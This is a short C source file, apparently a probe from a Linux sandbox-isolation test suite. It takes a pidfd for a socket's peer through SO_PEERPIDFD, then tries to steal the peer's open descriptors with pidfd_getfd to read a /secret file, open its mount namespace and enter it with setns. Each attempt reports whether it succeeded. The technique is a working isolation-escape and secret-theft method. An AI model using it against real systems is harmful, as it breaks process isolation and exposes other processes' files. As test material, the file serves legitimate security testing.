// SPDX-License-Identifier: GPL-2.0-only
// SO_PEERPIDFD names the other end of a socket by a pidfd, which no message has
// carried: its open files, its namespaces and its life.
// Victims: host other
#include <sched.h>
#include <sys/ioctl.h>

#include "borrow.h"

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD	77
#endif
#ifndef PIDFD_GET_MNT_NAMESPACE
#define PIDFD_GET_MNT_NAMESPACE	_IO(0xff, 3)
#endif

int main(void)
{
	int process, i, fd;
	socklen_t length = sizeof(process);

	if (getsockopt(lender(), SOL_SOCKET, SO_PEERPIDFD, &process, &length))
		refused("SO_PEERPIDFD");
	for (i = 0; i < 64; i++) {
		fd = syscall(SYS_pidfd_getfd, process, i, 0);
		if (fd >= 0 && has_secret(fd))
			worked("/secret is read by a descriptor of it");
	}
	if (ioctl(process, PIDFD_GET_MNT_NAMESPACE, 0) >= 0)
		worked("its mount namespace is open");
	if (!setns(process, CLONE_NEWNS))
		worked("its mount namespace is entered");
	refused("pidfd_getfd, PIDFD_GET_MNT_NAMESPACE, setns");
}
